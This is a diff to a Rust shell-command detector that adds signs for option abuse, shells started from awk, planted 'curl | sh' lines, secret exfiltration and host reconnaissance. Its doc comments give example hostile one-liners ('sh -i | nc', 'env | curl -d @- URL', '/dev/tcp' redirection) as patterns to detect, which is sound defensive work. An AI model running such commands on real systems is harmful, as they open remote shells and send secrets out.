@@ -12,6 +12,11 @@
 //! | `runs-decoded` | what was encoded is run: `echo aWQ= \| base64 -d \| sh` |
 //! | `dev-tcp` | a redirection to `/dev/tcp/HOST/PORT` |
 //! | `shell-on-network` | what a shell prints goes to the network by a pipe: `sh -i \| nc HOST PORT` |
+//! | `odd-option` | an option that programs are named in names one that it is not for: `tar --checkpoint-action=exec=sh` |
+//! | `starts-shell` | code in the arguments of a program starts a shell to type into: `awk 'BEGIN {system("/bin/sh")}'` |
+//! | `plants-command` | a text that runs what it fetches or decodes is put somewhere: `echo 'curl URL \| sh' >> x` |
+//! | `sends-secrets` | keys, environments or histories go to the network: `env \| curl -d @- URL` |
+//! | `tells-of-machine` | who and where one is goes to the network: `curl URL/$(whoami)` |
 //!
 //! ```
 //! use kernscope_watch::detect::shell;
@@ -21,14 +26,19 @@
 //! ```
 
 mod brought;
+mod calls;
 mod danger;
+mod embedded;
 mod evaluate;
 mod expand;
 mod heads;
 mod judge;
+mod leak;
 mod origin;
 mod parse;
+mod planted;
 mod script;
+mod secrets;
 #[cfg(test)]
 mod tests;
 mod word;
@@ -95,12 +105,6 @@ fn text_index(argv: &[String]) -> Option<usize> {
 pub fn read<'a>(text: &str, lineage: impl Iterator<Item = &'a Process>) -> Reading {
     let mut reading = Reading { text: text.to_owned(), ..Reading::default() };
     let script = parse::parse(text);
-    let sign = |reading: &mut Reading, name: &str, because: Vec<String>| {
-        if !reading.signs.iter().any(|known| known == name) {
-            reading.signs.push(name.to_owned());
-            reading.because.extend(because);
-        }
-    };
     if let Some(origin) = origin::argument(text, &script, lineage) {
         reading.evidence.extend(origin.seq);
         sign(&mut reading, "injected-argument", vec![origin.because]);
@@ -116,22 +120,70 @@ pub fn read<'a>(text: &str, lineage: impl Iterator<Item = &'a Process>) -> Readi
             vec!["code of another language stands in the text".to_owned()],
         );
     }
-    let mut texts = vec![script];
+    follow(&mut reading, vec![script]);
+    reading
+}
+
+/// Reads the texts in the arguments of a program that is no shell: `git clone --upload-pack='id;'`, `awk 'BEGIN {system("id")}'`.
+pub fn read_arguments(argv: &[String]) -> Reading {
+    let mut reading = Reading::default();
+    if !embedded::may_take(argv) {
+        return reading;
+    }
+    let script = script::Script { commands: vec![script::Command::of(argv)], ..script::Script::default() };
+    follow(&mut reading, vec![script]);
+    // The command itself is known.
+    reading.commands.remove(0);
+    if reading.commands.is_empty() && reading.signs.is_empty() {
+        return Reading::default();
+    }
+    reading.text = argv.join(" ");
+    reading
+}
+
+/// Notes the commands and the signs of texts, and of those that they run.
+fn follow(reading: &mut Reading, mut texts: Vec<script::Script>) {
     let mut at = 0;
     while let Some(script) = texts.get(at) {
         at += 1;
         for name in danger::signs(script) {
-            sign(&mut reading, name, Vec::new());
+            sign(reading, name, Vec::new());
+        }
+        if planted::plants(script) {
+            sign(reading, "plants-command", vec!["a text in an argument runs what it brings".to_owned()]);
+        }
+        let sent = leak::sent(script);
+        if sent.secrets > 0 {
+            sign(reading, "sends-secrets", Vec::new());
+        } else if sent.is_leak() {
+            sign(reading, "tells-of-machine", Vec::new());
         }
         let room = MAX_COMMANDS.saturating_sub(reading.commands.len());
         reading.commands.extend(
             script.commands.iter().map(script::Command::line).filter(|line| !line.is_empty()).take(room),
         );
         reading.commands.extend(danger::fed(script).into_iter().take(MAX_INNER));
-        let inner: Vec<_> = danger::inner(script).iter().map(|text| parse::parse(text)).collect();
-        texts.extend(inner.into_iter().take(MAX_INNER.saturating_sub(texts.len())));
+        let embedded: Vec<_> =
+            script.commands.iter().take(MAX_COMMANDS).flat_map(embedded::texts).take(MAX_INNER).collect();
+        for option in embedded.iter().filter_map(|embedded| embedded.odd) {
+            sign(reading, "odd-option", vec![format!("{option} names a program that it is not for")]);
+        }
+        if embedded.iter().any(|embedded| embedded.starts_shell) {
+            sign(reading, "starts-shell", Vec::new());
+        }
+        let inner =
+            danger::inner(script).into_iter().chain(embedded.into_iter().map(|embedded| embedded.text));
+        let room = MAX_INNER.saturating_sub(texts.len());
+        let inner: Vec<_> = inner.take(room).map(|text| parse::parse(&text)).collect();
+        texts.extend(inner);
     }
-    reading
+}
+
+fn sign(reading: &mut Reading, name: &str, because: Vec<String>) {
+    if !reading.signs.iter().any(|known| known == name) {
+        reading.signs.push(name.to_owned());
+        reading.because.extend(because);
+    }
 }
 
 /// A command of a text, as it would be started.
